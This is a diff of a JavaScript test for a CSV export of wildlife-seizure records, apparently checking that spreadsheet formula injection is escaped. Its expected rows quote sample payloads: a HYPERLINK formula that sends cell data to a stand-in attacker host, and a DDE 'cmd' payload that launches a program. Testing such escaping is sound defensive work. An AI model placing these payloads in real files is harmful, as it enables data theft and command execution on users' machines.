@@ -200,9 +200,9 @@ describe('cases/import', () => {
     }));
     const csv = seizuresToCsv(stored);
     const lines = csv.split('\r\n');
-    expect(lines[1]).toBe(`2019-07-21,day,SG,,,,,other,elephant ivory,,8.8,t,,,,,,,,,,"'=HYPERLINK(""http://attacker.invalid/?x=""&A1,""open"")"`);
-    expect(lines[2]).toBe(`2019-04-03,day,SG,,,,,other,pangolin scales,,12.9,t,,,,,,,,,,'+cmd|' /C calc'!A0`);
-    expect(lines[3]).toBe(`2018-03-05,day,VN,,,,,other,pangolin scales,,3500,kg,,,,,,,,,,'@SUM(1+1)`);
+    expect(lines[1]).toBe(`2019-07-21,day,SG,,,,,other,elephant ivory,,8.8,t,,,,,,,,,,"'=HYPERLINK(""http://attacker.invalid/?x=""&A1,""open"")",,,,,`);
+    expect(lines[2]).toBe(`2019-04-03,day,SG,,,,,other,pangolin scales,,12.9,t,,,,,,,,,,'+cmd|' /C calc'!A0,,,,,`);
+    expect(lines[3]).toBe(`2018-03-05,day,VN,,,,,other,pangolin scales,,3500,kg,,,,,,,,,,'@SUM(1+1),,,,,`);
   });
 });
 
